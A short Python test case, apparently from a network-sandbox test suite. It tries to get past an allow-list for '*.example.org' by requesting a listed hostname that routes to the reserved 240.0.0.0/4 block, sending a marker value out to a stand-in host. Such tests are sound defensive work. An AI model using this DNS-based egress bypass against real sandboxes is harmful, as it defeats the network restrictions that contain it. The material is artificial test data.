# /// attack
# guarantee = "network"
# summary = "Reaches the reserved block, which the kernel routes by a listed name that leads there."
# reference = "RFC 1112, 240.0.0.0/4"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80"] } }
# refusal = { default = "proxy a reserved address" }
# ///

from kit import get, judge, target

judge(get("reserved.example.org", "/" + target("MARKER")))
